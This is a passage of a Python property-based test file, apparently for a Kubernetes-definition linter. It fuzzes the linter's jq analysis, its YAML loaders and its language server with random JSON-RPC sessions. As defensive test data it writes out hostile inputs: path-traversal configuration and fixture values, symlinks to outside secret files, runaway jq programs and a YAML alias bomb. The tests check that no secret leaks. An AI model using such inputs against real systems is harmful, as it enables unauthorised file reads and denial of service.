            subprocess.run(["git", "checkout", "-q", "--", "defs", "fixtures"], cwd=project, check=True)


# -- the jq analysis on generated programs -------------------------------------------------------------

JQ_ATOMS = st.sampled_from(
    [
        ".",
        ".a",
        ".spec",
        ".spec.roles[]",
        ".b[0]",
        '.["x y"]',
        ".c?",
        "$x",
        "$__loc__",
        '"s"',
        "1",
        "null",
        "true",
        "env",
        "input",
        "[]",
        "{}",
        ".[$x]",
        "empty",
        "error",
        "length",
        "keys",
        "to_entries",
    ]
)


# each way of combining two programs (one that takes one ignores the second): drawn as one choice,
# so each level of the recursion names the level below once. A one_of of 26 strategies over it
# made hypothesis walk the nested strategies 26 times per level when it first validated them (10 s
# of the first test that drew a program, a few milliseconds now)
JQ_COMBINATIONS = [
    lambda a, b: f"{a} | {b}",
    lambda a, b: f"({a} // {b})",
    lambda a, b: f"({a} and {b})",
    lambda a, b: f"({a} == {b})",
    lambda a, b: f"({a} * {b})",
    lambda a, b: f"({a} - {b})",
    lambda a, b: f"select({a})",
    lambda a, b: f"map({a})",
    lambda a, b: f"[{a}]",
    lambda a, b: f"{{a: {a}}}",
    lambda a, b: f"try {a}",
    lambda a, b: f"({a})?",
    lambda a, b: f"first({a})",
    lambda a, b: f'has("a") and {a}',
    lambda a, b: f"if {a} then {b} else . end",
    lambda a, b: f"if {a} then {b} elif . then .a end",
    lambda a, b: f"{a} as $x | {b}",
    lambda a, b: f"{a} as [$x, $y] | {b}",
    lambda a, b: f"{a} as {{a: $x}} | {b}",
    lambda a, b: f"reduce {a} as $x (0; {b})",
    lambda a, b: f"foreach {a} as $x (0; {b}; .)",
    lambda a, b: f"def f: {a}; f | {b}",
    lambda a, b: f"def g(a): {a}; g({b})",
    lambda a, b: f"{a} | .spec.roles[].leaderWorkerPattern.size",
]


def _combine(children):
    return st.tuples(st.sampled_from(JQ_COMBINATIONS), children, children).map(lambda t: t[0](t[1], t[2]))


JQ_PROGRAMS = st.recursive(JQ_ATOMS, _combine, max_leaves=25)


# coverage counts lines, not repetitions: thousands of generated programs through code other tests
# cover add no line and cost x3 under a trace function (pytest-cov's no_cover: not traced)
@pytest.mark.no_cover
@examples(150)
@given(program=JQ_PROGRAMS)
def test_the_builtin_table_never_proves_a_program_libjq_refuses(program):
    import jq

    from kartalint.jqlang import parse_cached
    from kartalint.jqlang.builtins import statically_compiles

    tree, error = parse_cached(program)
    if error is None and tree is not None and statically_compiles(tree):
        jq.compile(program)


@pytest.mark.no_cover  # as above
@examples(150)
@given(program=JQ_PROGRAMS)
def test_jq_analysis_never_fails_on_any_program(program):
    from kartalint.jqlang import parse_cached
    from kartalint.jqlang.paths import compared_constants, output_path, path_facts

    tree, _ = parse_cached(program)
    if tree is None:
        return
    facts = path_facts(tree)
    for read in facts.reads:
        assert 0 <= read.start <= read.end <= len(program)
        assert isinstance(read.path, tuple)
    output_path(tree)
    for _path, _constant, start, end in compared_constants(tree):
        assert program[start:end].startswith('"')


@examples(25)
@given(program=JQ_PROGRAMS)
def test_lint_with_a_crd_on_any_program(project, program):
    crd = os.path.join(os.path.dirname(__file__), "data", "crds", "example.com_trainers.yaml")
    with guarded(project):
        text = BASE_DEFINITION.replace(
            "replicasPath: .spec.roles[] | (.replicas // 1)", "replicasPath: " + json.dumps(program)
        )
        (project / "generated.yaml").write_text(text)
        argv = ["lint", "--crd", crd, "-f", "json", "generated.yaml"]
        code, out, err = run_cli(argv)
        check_run(code, out, err, argv)
        json.loads(out)


@examples(150)
@given(text=mutated_text(yaml.safe_dump(OBJECT, sort_keys=False)) | mutated_text(BASE_DEFINITION))
def test_plain_loader_agrees_with_the_full_loader(text):
    """Objects read without a node tree give the full loader's data, or are left to it."""
    from kartalint.load.documents import load_text
    from kartalint.load.plain import load_plain

    plain = load_plain(text)
    if plain is not None:
        source = load_text(text, "x")
        assert not [f for f in source.findings if f.rule.startswith("yaml-")]
        assert plain == [d.data for d in source.documents]


# -- the language server: random JSON-RPC over hostile documents ------------------------------------

LSP_TIMEOUT = 60.0  # seconds one request may take (a hover waits at most 8 s for its jq): then a hang
KARTA_CONFIG = "definitions: [defs]\nfixtures: [fixtures]\ncrds: [crds]\n"
LINKED_CONFIG = "LINK"  # .kartalint.yaml -> ../outside/secret-config.yaml
LSP_CONFIGS = [  # the configuration is untrusted input too: none of these may widen what is read
    KARTA_CONFIG,
    "definitions: [defs]\nfixtures: [fixtures, ../outside]\ncrds: [crds]\n",
    "definitions: [defs, ../outside/defs]\nfixtures: [fixtures]\n",
    "definitions: [defs]\nfixtures: [fixtures]\ncrds: [crds, ../outside/crd.yaml]\n",
    "extends: ../outside/config.yaml\n",
    "fixtures: [\n",
    "max-file-size: lots\nfixtures: [fixtures]\n",
    LINKED_CONFIG,  # the configuration file itself a symbolic link to a file outside (issue 45)
]
RUNAWAY_JQ = ["[limit(1e9; repeat(1))]", "last(range(1e12))", "def f: [f]; f", "[range(1e9)] | length"]


def with_jq(field: str, program: str) -> str:
    """BASE_DEFINITION with the jq of ``field`` (replicasPath or instanceIdPath) replaced."""
    lines = BASE_DEFINITION.split("\n")
    return "\n".join(
        line.split(":", 1)[0] + ": " + json.dumps(program) if line.strip().startswith(field + ":") else line
        for line in lines
    )


def with_surrogates(text: str, where: list[int]) -> str:
    for index in sorted(where, reverse=True):
        index = index % (len(text) + 1)
        text = text[:index] + "\ud800" + text[index:]
    return text


def lsp_fixture_text(object_file: str) -> str:
    return fixture_text(name="f", definition="../../defs/trainer.yaml", objectFile=object_file)


@st.composite
def lsp_documents(draw, outside: str) -> str:
    """A text an editor may send: a definition (mutated, with runaway or hostile jq, a template,
    huge, deeply nested, an alias bomb, lone surrogates), a fixture pointing outside, a
    configuration, or anything."""
    kind = draw(
        st.sampled_from(
            [
                "base",
                "mutated",
                "runaway",
                "hostile-jq",
                "template",
                "huge",
                "nested",
                "bomb",
                "fixture",
                "config",
                "any",
            ]
        )
    )
    if kind == "base":
        text = BASE_DEFINITION
    elif kind == "mutated":
        text = draw(mutated_text(BASE_DEFINITION))
    elif kind == "runaway":
        text = with_jq(draw(st.sampled_from(["replicasPath", "instanceIdPath"])), draw(st.sampled_from(RUNAWAY_JQ)))
    elif kind == "hostile-jq":
        program = draw(st.sampled_from(HOSTILE_JQ)).replace("OUTSIDE", outside)
        text = with_jq(draw(st.sampled_from(["replicasPath", "instanceIdPath"])), program)
    elif kind == "template":
        text = "{{- if .Values.karta.enabled }}\n" + BASE_DEFINITION.replace(
            "name: trainer", "name: {{ .Release.Name }}"
        )
        text += "{{- end }}\n"
    elif kind == "huge":
        text = BASE_DEFINITION + draw(st.sampled_from(["# " + "x" * 300_000 + "\n", "k: " + "1" * 5000 + "\n"]))
    elif kind == "nested":
        depth = draw(st.sampled_from([300, 3000]))
        text = BASE_DEFINITION + "deep: " + "[" * depth + "]" * depth + "\n"
    elif kind == "bomb":
        text = 'a: &a ["x","x","x","x","x","x","x","x","x"]\n' + "".join(
            f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)}]\n"
            for i in range(9)
        )
    elif kind == "fixture":
        text = lsp_fixture_text(
            draw(st.sampled_from(["../../../outside/secret.yaml", outside + "/secret.yaml", "linked-object.yaml"]))
        )
    elif kind == "config":
        text = draw(st.sampled_from(LSP_CONFIGS))
    else:
        text = draw(st.text(max_size=200))
    if draw(st.integers(0, 4)) == 0:
        text = with_surrogates(text, draw(st.lists(st.integers(0, 10**6), min_size=1, max_size=3)))
    return text


LSP_URIS = [  # inside the project (an editor may send documents the project has or not)
    "defs/trainer.yaml",
    "defs/second.yaml",
    "fixtures/example-com-trainer-v1/ok.yaml",
    "fixtures/example-com-trainer-v1/relative.yaml",
    "fixtures/example-com-trainer-v1/linked-fixture.yaml",
    ".kartalint.yaml",
    "no/such/folder/def.yaml",
    "defs",
    "odd name %25 ü.yaml",
]
UNOPENED_OUTSIDE = "../outside/defs/secret.yaml"  # never opened: its folder's configuration is not read either
POSITIONED = ["textDocument/hover", "textDocument/completion", "textDocument/definition"]
WHOLE = ["textDocument/documentSymbol", "textDocument/codeLens"]
MALFORMED = [
    None,
    [1, 2],
    {},
    {"textDocument": {"uri": 7}},
    {"textDocument": {}, "position": {"line": 0, "character": 0}},
    {"position": {"line": "x", "character": None}},
]


def jq_positions(text: str) -> list[tuple[int, int]]:
    """Positions on the values of the jq fields of ``text`` (where a hover runs jq)."""
    out = []
    for number, line in enumerate(text.split("\n")):
        for key in ("Path: ", "path: ", "idPath: "):
            if key in line:
                out.append((number, line.index(key) + len(key) + 2))
    return out or [(0, 0)]


@st.composite
def lsp_sessions(draw, outside: str) -> tuple[str, list]:
    """(the configuration on disk, the messages to send): documents opened, changed, saved and
    closed, and requests of every kind at any position, unknown methods, malformed params and
    cancellations, in any order."""
    config = draw(st.sampled_from(LSP_CONFIGS))
    documents = draw(st.lists(st.sampled_from(LSP_URIS), min_size=1, max_size=3, unique=True))
    texts = {uri: draw(lsp_documents(outside)) for uri in documents}
    steps: list = [("open", uri, texts[uri]) for uri in documents]
    for _ in range(draw(st.integers(2, 10))):
        uri = draw(st.sampled_from([*documents, "defs/trainer.yaml", UNOPENED_OUTSIDE]))
        action = draw(
            st.sampled_from(
                ["request"] * 4 + ["whole"] * 2 + ["change", "close", "save", "unknown", "malformed", "cancel"]
            )
        )
        if action == "change" and uri == UNOPENED_OUTSIDE:  # (a change opens it: only asked about, never opened)
            uri = "defs/trainer.yaml"
        if action == "change":
            texts[uri] = draw(lsp_documents(outside))
            steps.append(("change", uri, texts[uri]))
        elif action == "request":
            text = texts.get(uri, BASE_DEFINITION)
            lines = text.split("\n")
            line = draw(st.integers(0, len(lines) - 1))
            position = draw(
                st.sampled_from(jq_positions(text))
                | st.tuples(st.just(line), st.integers(0, len(lines[line]) + 2))
                | st.sampled_from([(2**31 - 1, 2**31 - 1), (len(lines) - 1, 2**31 - 1), (10**6, 0)])
            )
            steps.append(("request", draw(st.sampled_from(POSITIONED)), uri, position))
        elif action == "whole":
            steps.append(("request", draw(st.sampled_from([*WHOLE, "textDocument/codeAction"])), uri, None))
        elif action in ("close", "save"):
            steps.append((action, uri, None))
        elif action == "unknown":
            steps.append(
                ("unknown", draw(st.sampled_from(["kartalint/secret", "textDocument/x", "$/odd", ""])), uri, None)
            )
        elif action == "malformed":
            steps.append(
                ("malformed", draw(st.sampled_from(POSITIONED + WHOLE)), draw(st.sampled_from(MALFORMED)), None)
            )
        else:
            steps.append(("cancel", draw(st.integers(0, 50)), None, None))
    return config, steps


def _lsp_outside(base: pathlib.Path, project: pathlib.Path) -> None:
    """The files outside the project, each holding the secret where a reader would show it."""
    outside = base / "outside"
    (outside / "defs").mkdir(parents=True)
    leaked = dict(OBJECT, metadata={"name": SECRET, "uid": SECRET})
    leaked["spec"] = {"roles": [dict(OBJECT["spec"]["roles"][1], name=SECRET, replicas=7)]}
    leaked["status"] = {"phase": SECRET}
    (outside / "secret.yaml").write_text(yaml.safe_dump(leaked))
    (outside / "fixture.yaml").write_text(
        yaml.safe_dump(
            {
                "apiVersion": "kartalint/v1",
                "kind": "KartaFixture",
                "name": SECRET,
                "source": "fuzz",
                "definition": str(project / "defs" / "trainer.yaml"),
                "object": leaked,
                "expect": {"statuses": ["Running"]},
            }
        )
    )
    (outside / "defs" / "secret.yaml").write_text(BASE_DEFINITION.replace("example-com-trainer-v1", SECRET))
    crd = yaml.safe_load(CRD_TEXT)
    crd["spec"]["versions"][0]["schema"]["openAPIV3Schema"]["properties"]["spec"]["description"] = SECRET
    (outside / "crd.yaml").write_text(yaml.safe_dump(crd))
    (outside / "config.yaml").write_text("fixtures: [../outside]\n")
    (outside / "secret-config.yaml").write_text(f"rules:\n  {SECRET}: off\ndefinitions: [{SECRET}]\n")
    (outside / "defs" / ".kartalint.yaml").write_text(f"rules:\n  {SECRET}-defs: off\n")


class LspServer:
    """``kartalint lsp`` (with the audit hook) in the campaign's project, started again if an
    example left it dead (that example has failed already)."""

    def __init__(self, root: pathlib.Path, outside: pathlib.Path, audit: pathlib.Path) -> None:
        self.root, self.outside, self.audit = root, outside, audit
        self.client: Any = None

    def get(self) -> Any:
        from lsp_stdio import StdioClient

        if self.client is None or self.client.process.poll() is not None:
            env = dict(os.environ, KARTALINT_FUZZ_SECRET=SECRET)
            env.pop("CI", None)
            self.client = StdioClient(str(self.root), env, str(self.audit), str(self.outside))
            answer = self.client.call(
                "initialize", {"processId": os.getpid(), "rootUri": self.root.as_uri(), "capabilities": {}}, 60
            )
            assert "result" in answer, answer
            self.client.notify("initialized", {})
        return self.client

    def uri(self, name: str) -> str:
        return name if ":" in name.split("/")[0] else (self.root / name).as_uri()


@pytest.fixture(scope="module")
def lsp_server(tmp_path_factory):
    """A project with a definition, its fixture, the CRD, and fixtures reaching outside (relative
    and absolute ``objectFile``, an object and a whole fixture linked from outside); the server."""
    pytest.importorskip("pygls")
    base = tmp_path_factory.mktemp("lsp-fuzz")
    root = base / "project"
    folder = root / "fixtures" / "example-com-trainer-v1"
    folder.mkdir(parents=True)
    (root / "defs").mkdir()
    (root / "crds").mkdir()
    _lsp_outside(base, root)
    (root / "defs" / "trainer.yaml").write_text(BASE_DEFINITION)
    (root / "crds" / "trainers.yaml").write_text(CRD_TEXT)
    (root / ".kartalint.yaml").write_text(KARTA_CONFIG)
    (folder / "ok.yaml").write_text(
        yaml.safe_dump(
            {
                "apiVersion": "kartalint/v1",
                "kind": "KartaFixture",
                "name": "inside",
                "source": "fuzz",
                "object": OBJECT,
                "expect": {"statuses": ["Running"]},
            },
            sort_keys=False,
        )
    )
    (folder / "relative.yaml").write_text(lsp_fixture_text("../../../outside/secret.yaml"))
    (folder / "absolute.yaml").write_text(lsp_fixture_text(str(base / "outside" / "secret.yaml")))
    os.symlink(base / "outside" / "secret.yaml", folder / "linked-object.yaml")
    (folder / "linked.yaml").write_text(lsp_fixture_text("linked-object.yaml"))
    os.symlink(base / "outside" / "fixture.yaml", folder / "linked-fixture.yaml")
    server = LspServer(root, base / "outside", base / "audit.log")
    client = server.get()
    # the campaign reaches jq on the fixtures: the hover shows the project's fixture, and only it
    uri = server.uri("defs/trainer.yaml")
    client.notify(
        "textDocument/didOpen",
        {"textDocument": {"uri": uri, "languageId": "yaml", "version": 1, "text": BASE_DEFINITION}},
    )
    line, character = next(
        p for p in jq_positions(BASE_DEFINITION) if "instanceIdPath" in BASE_DEFINITION.split("\n")[p[0]]
    )
    hover = client.call(
        "textDocument/hover", {"textDocument": {"uri": uri}, "position": {"line": line, "character": character}}
    )
    shown = hover["result"]["contents"]["value"]
    assert shown.endswith('On the fixtures:\n- `inside`: `["leader", "worker"]`'), shown  # the refused ones left out
    client.notify("textDocument/didClose", {"textDocument": {"uri": uri}})
    yield server
    if server.client is not None:
        server.client.close()
        logged = b"".join(server.client.stderr).decode("utf-8", "replace")
        assert "Traceback" not in logged, ("a traceback in the server's log", logged[-3000:])


def _send_session(server: LspServer, steps: list) -> list[tuple[int, str, bool]]:
    """Send the session's messages without waiting; (id, method, well-formed) of each request."""
    client = server.get()
    versions: dict[str, int] = {}
    shown: set[str] = set()  # the documents open in the editor now
    sent: list[tuple[int, str, bool]] = []
    for step in steps:
        kind = step[0]
        if kind in ("open", "change"):
            uri, text = server.uri(step[1]), step[2]
            versions[uri] = versions.get(uri, 0) + 1
            if uri not in shown:
                item = {"uri": uri, "languageId": "yaml", "version": versions[uri], "text": text}
                client.notify("textDocument/didOpen", {"textDocument": item})
                shown.add(uri)
            else:
                client.notify(
                    "textDocument/didChange",
                    {"textDocument": {"uri": uri, "version": versions[uri]}, "contentChanges": [{"text": text}]},
                )
        elif kind == "close":
            shown.discard(server.uri(step[1]))
            client.notify("textDocument/didClose", {"textDocument": {"uri": server.uri(step[1])}})
        elif kind == "save":
            client.notify("textDocument/didSave", {"textDocument": {"uri": server.uri(step[1])}})
        elif kind == "request":
            method, uri, position = step[1], server.uri(step[2]), step[3]
            params: dict[str, Any] = {"textDocument": {"uri": uri}}
            if position is not None:
                params["position"] = {"line": position[0], "character": position[1]}
            if method == "textDocument/codeAction":
                zero = {"line": 0, "character": 0}
                params.update(
                    range={"start": zero, "end": {"line": 10**6, "character": 0}}, context={"diagnostics": []}
                )
            sent.append((client.request(method, params), method, True))
        elif kind == "unknown":
            sent.append((client.request(step[1], {"textDocument": {"uri": server.uri(step[2])}}), step[1], False))
        elif kind == "malformed":
            sent.append((client.request(step[1], step[2]), step[1], False))
        else:
            client.notify("$/cancelRequest", {"id": step[1]})
    return sent


@examples(12)
@given(data=st.data())
def test_language_server_answers_every_request_and_reads_nothing_outside(lsp_server, data):
    """Random JSON-RPC sessions (documents opened, changed, saved and closed; hover, completion,
    definition, symbols, code lenses and actions at any position; unknown methods; malformed
    params; cancellations) over hostile documents, with a hostile configuration on disk: every
    request is answered within LSP_TIMEOUT, a well-formed one never with an internal error; no
    response or notification holds the secret of the files outside the project (nor of the
    environment), and the server opens no file there (an audit hook in the server logs every
    open and listing under that folder)."""
    server = lsp_server
    config, steps = data.draw(lsp_sessions(str(server.outside)))
    client = server.get()
    config_file = server.root / ".kartalint.yaml"
    if config == LINKED_CONFIG:
        config_file.unlink()
        config_file.symlink_to(server.outside / "secret-config.yaml")
    else:
        config_file.write_text(config)
    client.notify("textDocument/didSave", {"textDocument": {"uri": server.uri(".kartalint.yaml")}})
    first, first_err = len(client.raw), len(client.stderr)
    try:
        sent = _send_session(server, steps)
        cancelled = {step[1] for step in steps if step[0] == "cancel"}
        for number, method, well_formed in sent:
            answer = client.response(number, LSP_TIMEOUT)
            if well_formed and "error" in answer:
                assert answer["error"]["code"] == -32800 and number in cancelled, (method, steps, answer)
            if "error" in answer:
                assert "kartalint/" not in json.dumps(answer["error"].get("data")), (method, answer)
    finally:
        for uri in {server.uri(step[1]) for step in steps if step[0] in ("open", "change")}:
            client.notify("textDocument/didClose", {"textDocument": {"uri": uri}})
        config_file.unlink()
        config_file.write_text(KARTA_CONFIG)
        client.notify("textDocument/didSave", {"textDocument": {"uri": server.uri(".kartalint.yaml")}})
    assert client.call("textDocument/documentSymbol", {"textDocument": {"uri": server.uri("defs/x.yaml")}}, LSP_TIMEOUT)
    logged = b"".join(client.stderr[first_err:]).decode("utf-8", "replace")
    said = b"".join(client.raw[first:]).decode("utf-8", "replace") + logged
    assert SECRET not in said, (steps, "the planted secret leaked")
    opened = server.audit.read_text() if server.audit.exists() else ""
    assert not opened, (steps, "the server opened files outside the project", opened)
    # a traceback in the server's log (a malformed request: pygls and cattrs logged one for each, a
    # hover without params among them) reads as a crash; whatever its frames, wherever the checkout
    # (those read so far here; the rest when the server has exited, in ``lsp_server``)
    assert "Traceback" not in logged, (steps, "a traceback in the server's log", logged[-3000:])
